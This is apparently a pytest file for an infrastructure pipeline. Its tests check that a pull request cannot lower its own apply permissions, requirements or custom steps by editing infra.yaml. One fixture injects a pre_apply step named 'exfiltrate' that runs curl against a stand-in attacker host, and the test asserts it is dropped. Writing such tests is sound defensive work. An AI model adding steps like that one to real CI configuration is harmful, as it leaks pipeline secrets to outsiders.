"""Policy from the base branch: a pull request cannot lower the bar for its own `/apply` by
editing `infra.yaml`, while the layers it plans are the ones its own `infra.yaml` describes."""

from __future__ import annotations

from pathlib import Path

import pytest

from dashboard_html import page_of
from infra_pipeline.adapters.base_config import policy_at, repo_path
from infra_pipeline.adapters.github.client import GitHub
from infra_pipeline.config import Config, Role, Stage, load_config, parse_config
from infra_pipeline.core.policy import merge_policy
from infra_pipeline.errors import InfraError
from prstory import Repo, dashboard_body, git, make_repo, replies
from standin import GitHubStandIn

PLATFORM_FILE = "modules/platform/main.tf"
BASE = """
version: 1
layers:
  network: {path: network, order: 1, auto_apply: false}
  apps:    {path: apps,    order: 2}
permissions: {apply: maintain}
apply_requirements: [approved]
"""


def _config(root: Path, text: str) -> Config:
    for name in ("network", "apps", "dns", "edge"):
        (root / name).mkdir(exist_ok=True)
    return parse_config(text, root / "infra.yaml")


def _everywhere(layer: object) -> bool:
    return True


# -- the rule -------------------------------------------------------------------------------------


def test_the_base_decides_the_policy_keys_and_auto_apply(tmp_path: Path) -> None:
    base = _config(tmp_path, BASE)
    head = _config(
        tmp_path,
        BASE.replace("maintain", "read")
        .replace("[approved]", "[]")
        .replace("auto_apply: false", "auto_apply: true")
        + "allow_forks: true\nplan_drafts: true\n",
    )

    merged = merge_policy(head, base, present=_everywhere)

    assert merged.config.role_for("apply").value == "maintain"
    assert merged.config.apply_requirements == ("approved",)
    assert merged.config.allow_forks is False and merged.config.plan_drafts is False
    assert merged.config.layers["network"].auto_apply is False
    assert len(merged.notes) == 5  # four keys and one layer, each said in the log


def test_the_base_decides_the_policies_a_pull_request_is_held_to(tmp_path: Path) -> None:
    base = _config(tmp_path, BASE + "policies: {paths: [policy/], approvers: admin}\n")
    weakened = _config(tmp_path, BASE + "policies: {paths: [empty/], approvers: write}\n")
    dropped = _config(tmp_path, BASE)

    for head in (weakened, dropped):
        merged = merge_policy(head, base, present=_everywhere)
        assert merged.config.policies == base.policies
        assert "`policies` from the base branch" in " ".join(merged.notes)
    first = merge_policy(weakened, None, present=_everywhere).config.policies
    assert first is not None and first.approvers is Role.ADMIN  # the PR's own, approved by admins


def test_layers_paths_and_engines_come_from_the_head(tmp_path: Path) -> None:
    base = _config(tmp_path, BASE)
    head = _config(
        tmp_path,
        BASE.replace(
            "{path: apps,    order: 2}",
            "{path: dns, order: 2, engine: tofu}\n  edge: {path: edge, order: 3}",
        ),
    )

    merged = merge_policy(head, base, present=_everywhere)

    assert [layer.name for layer in merged.config.ordered_layers] == ["network", "apps", "edge"]
    apps = merged.config.layers["apps"]
    assert (apps.path, apps.engine.value) == ("dns", "tofu")
    assert merged.config.root == head.root
    assert "layer `edge` is new in this pull request" in merged.notes


def test_a_layer_the_pull_request_unlists_stays_while_its_directory_does(tmp_path: Path) -> None:
    base = _config(tmp_path, BASE)
    head = _config(tmp_path, BASE.replace("  apps:    {path: apps,    order: 2}\n", ""))

    kept = merge_policy(head, base, present=_everywhere)
    gone = merge_policy(head, base, present=lambda layer: False)

    assert list(kept.config.layers) == ["network", "apps"]
    assert "stays until its removal is merged" in " ".join(kept.notes)
    assert list(gone.config.layers) == ["network"]


def test_without_a_policy_on_the_default_branch_a_pull_request_cannot_lower_its_bar(
    tmp_path: Path,
) -> None:
    head = _config(
        tmp_path,
        BASE.replace("{apply: maintain}", "{apply: read, plan: read}")
        + "allow_forks: true\nbot_login: mallory[bot]\napply_bases: [mine]\n",
    )

    merged = merge_policy(head, None, present=_everywhere).config

    assert merged.role_for("apply").value == "admin"  # first adoption: admins deploy
    assert merged.role_for("unlock").value == "admin"
    assert merged.role_for("plan").value == "write"  # the built-in bar, not the PR's
    assert merged.apply_requirements == ("approved",)  # a PR may add requirements
    assert merged.allow_forks is False and merged.apply_bases == ()
    assert merged.bot_login == "github-actions[bot]"
    assert list(merged.layers) == list(head.layers)
    stricter = _config(tmp_path, BASE.replace("{apply: maintain}", "{plan: maintain}"))
    assert merge_policy(stricter, None, present=_everywhere).config.role_for("plan").value == (
        "maintain"
    )


def test_the_file_is_found_where_it_sits_in_the_repository(tmp_path: Path) -> None:
    (tmp_path / "infra").mkdir()
    (tmp_path / "infra" / "infra.yaml").write_text(BASE)
    with pytest.raises(InfraError, match="cannot tell where"):
        repo_path(tmp_path / "infra" / "infra.yaml")
    git(tmp_path, "init", "-q")

    assert repo_path(tmp_path / "infra" / "infra.yaml") == "infra/infra.yaml"


def test_an_invalid_policy_on_the_base_branch_stops_the_job(
    tmp_path: Path, standin: GitHubStandIn, gh_env: dict[str, str]
) -> None:
    repo = make_repo(tmp_path, standin, gh_env)
    standin.set_file("infra.yaml", "version: 1\nlayers: {}\n", ref=repo.base)
    config = load_config(repo.root / "infra.yaml")

    with GitHub.from_env(gh_env) as github, pytest.raises(InfraError) as raised:
        policy_at(config, github, repo.base, print)

    assert f"infra.yaml on {repo.base} is invalid" in raised.value.message
    assert "layers" in raised.value.message


# -- the stories ----------------------------------------------------------------------------------


@pytest.fixture
def repo(tmp_path: Path, standin: GitHubStandIn, gh_env: dict[str, str]) -> Repo:
    standin.set_permission("alice", "maintain")
    standin.set_permission("rita", "read")
    made = make_repo(tmp_path, standin, gh_env)
    # GitHub has main's infra.yaml at the base commit; the job's checkout has the PR's.
    standin.set_file("infra.yaml", (made.root / "infra.yaml").read_text(), ref=made.base)
    return made


def test_a_pull_request_cannot_lower_the_role_its_own_apply_needs(
    repo: Repo, standin: GitHubStandIn
) -> None:
    repo.commit(PLATFORM_FILE, "replicas    = 2", "replicas    = 3", "more replicas")
    head = repo.commit("infra.yaml", "apply: maintain", "apply: read", "let readers apply")
    repo.open_pr(7, head, [PLATFORM_FILE, "infra.yaml"])
    assert repo.pr_event(7).code == 0

    result, comment_id = repo.comment(7, "/apply", "rita")

    assert result.code == 1
    assert "@rita needs the `maintain` role" in replies(standin, 7)[-1]
    assert standin.reactions(comment_id) == ["eyes", "confused"]
    assert "`permissions` from the base branch" in result.out
    assert not (repo.root / "platform" / "terraform.tfstate").exists()


@pytest.mark.parametrize(
    ("key", "pull"),
    [("plan_drafts", {"draft": True}), ("allow_forks", {"fork": True, "head_repo": "m/infra"})],
)
def test_a_pull_request_cannot_opt_itself_into_planning(
    repo: Repo, standin: GitHubStandIn, key: str, pull: dict[str, object]
) -> None:
    repo.commit(PLATFORM_FILE, "replicas    = 2", "replicas    = 3", "more replicas")
    head = repo.commit("infra.yaml", "permissions:", f"{key}: true\npermissions:", "opt in")
    repo.open_pr(7, head, [PLATFORM_FILE, "infra.yaml"], **pull)

    result = repo.pr_event(7)

    assert result.code == 0 and "not planned" in result.out
    assert standin.comments(7) == []


def test_a_pull_request_that_adds_a_layer_plans_it(repo: Repo, standin: GitHubStandIn) -> None:
    dev = repo.root / "envs" / "dev" / "data"
    dev.mkdir(parents=True)
    staging = (repo.root / "modules" / "data-staging" / "main.tf").read_text()
    (dev / "main.tf").write_text(staging.replace('"../service"', '"../../../modules/service"'))
    head = repo.commit(
        "infra.yaml",
        "  data-prod:",
        "  data-dev:     {path: envs/dev/data,     engine: terraform, order: 5}\n  data-prod:",
        "a dev data layer",
    )
    repo.open_pr(7, head, ["envs/dev/data/main.tf", "infra.yaml"])

    result = repo.pr_event(7)

    assert result.code == 0, result.out + result.err
    assert "layer `data-dev` is new in this pull request" in result.out
    board = dashboard_body(standin, 7, head)
    rows = page_of(board).rows()
    assert rows["Plan: data-dev"][0] == "✅"
    assert "Plan: data-staging" not in rows and "data-staging" in rows["Plan: 4 others"][1]


def test_the_first_pull_request_cannot_lower_its_own_bar(
    tmp_path: Path, standin: GitHubStandIn, gh_env: dict[str, str]
) -> None:
    standin.set_permission("rita", "read")
    standin.set_permission("walter", "write")
    repo = make_repo(tmp_path, standin, gh_env)
    repo.merge_to_main("infra.yaml", None, "main has no infra.yaml yet")
    head = repo.commit("infra.yaml", "apply: maintain", "apply: write", "adopt infra-pipeline")
    repo.open_pr(7, head, ["infra.yaml"])

    result, _ = repo.comment(7, "/help", "rita")

    assert result.code == 0
    assert "first adoption" in result.out
    [apply_row] = [r for r in replies(standin, 7)[-1].splitlines() if r.startswith("| `/apply`")]
    assert apply_row.endswith("| admin |")
    result, _ = repo.comment(7, "/apply", "walter")
    assert result.code == 1
    assert "@walter needs the `admin` role" in replies(standin, 7)[-1]


# -- per-layer policy (issue 16) ------------------------------------------------------------------

LAYERED = BASE.replace(
    "apps:    {path: apps,    order: 2}",
    "apps:    {path: apps,    order: 2, permissions: {apply: admin}, "
    "apply_requirements: [mergeable]}",
)


def test_a_pull_request_cannot_lower_a_layers_own_bar(tmp_path: Path) -> None:
    base = _config(tmp_path, LAYERED)
    head = _config(
        tmp_path,
        LAYERED.replace("{apply: admin}", "{apply: write}").replace(
            "apply_requirements: [mergeable]}", "autoplan: false}"
        ),
    )

    merged = merge_policy(head, base, present=_everywhere).config

    assert merged.role_for_layer("apply", "apps") is Role.ADMIN
    assert merged.apply_requirements_for("apps") == ("approved", "mergeable")
    assert merged.layers["apps"].autoplan is False  # not policy: the head describes the code


def test_a_new_layers_own_permissions_only_raise_the_bar(tmp_path: Path) -> None:
    base = _config(tmp_path, BASE)
    head = _config(
        tmp_path,
        BASE.replace(
            "  apps:    {path: apps,    order: 2}\n",
            "  apps:    {path: apps,    order: 2}\n"
            "  dns:  {path: dns,  order: 3, permissions: {apply: read}}\n"
            "  edge: {path: edge, order: 4, permissions: {apply: admin}}\n",
        ),
    )

    merged = merge_policy(head, base, present=_everywhere).config

    assert merged.role_for_layer("apply", "dns") is Role.MAINTAIN  # read asked: the base's bar
    assert merged.role_for_layer("apply", "edge") is Role.ADMIN
    assert merged.least_role_for("apply") is Role.MAINTAIN


def test_first_adoption_keeps_layer_permissions_at_admin_or_above(tmp_path: Path) -> None:
    head = _config(tmp_path, LAYERED.replace("{apply: admin}", "{apply: write}"))
    merged = merge_policy(head, None, present=_everywhere).config
    assert merged.role_for_layer("apply", "apps") is Role.ADMIN
    assert merged.least_role_for("apply") is Role.ADMIN


# -- custom steps are policy ------------------------------------------------------------------

STEPPED = (
    BASE
    + """
steps:
  post_plan:
    - {name: checkov, run: [checkov, -f, plan.json]}
"""
)


def test_a_pull_request_cannot_add_change_or_drop_a_step(tmp_path: Path) -> None:
    base = _config(tmp_path, STEPPED)
    added = STEPPED.replace(
        "  apps:    {path: apps,    order: 2}\n",
        "  apps:\n    path: apps\n    order: 2\n    steps:\n"
        "      pre_apply: [{name: exfiltrate, run: [curl, evil.example]}]\n",
    )
    for head_text in (
        added,
        STEPPED.replace("[checkov, -f, plan.json]", '["true"]'),
        BASE,
    ):
        merged = merge_policy(_config(tmp_path, head_text), base, present=_everywhere).config
        apps = merged.layers["apps"]
        assert [s.name for s in merged.steps_for(apps, Stage.POST_PLAN)] == ["checkov"]
        assert merged.steps_for(apps, Stage.POST_PLAN)[0].argv == ("checkov", "-f", "plan.json")
        assert merged.steps_for(apps, Stage.PRE_APPLY) == ()


def test_a_new_layer_and_the_first_adoption_run_no_steps_until_merged(tmp_path: Path) -> None:
    new_layer = STEPPED.replace(
        "  apps:    {path: apps,    order: 2}\n",
        "  apps:    {path: apps,    order: 2}\n"
        "  dns:\n    path: dns\n    order: 3\n    steps:\n"
        "      pre_plan: [{name: mine, run: [id]}]\n",
    )
    merged = merge_policy(
        _config(tmp_path, new_layer), _config(tmp_path, BASE), present=_everywhere
    )
    assert merged.config.steps_for(merged.config.layers["dns"], Stage.PRE_PLAN) == ()
    assert "`layers.dns.steps` run once this pull request is merged" in merged.notes

    adopted = merge_policy(_config(tmp_path, new_layer), None, present=_everywhere).config
    for layer in adopted.layers.values():
        assert all(adopted.steps_for(layer, stage) == () for stage in Stage)
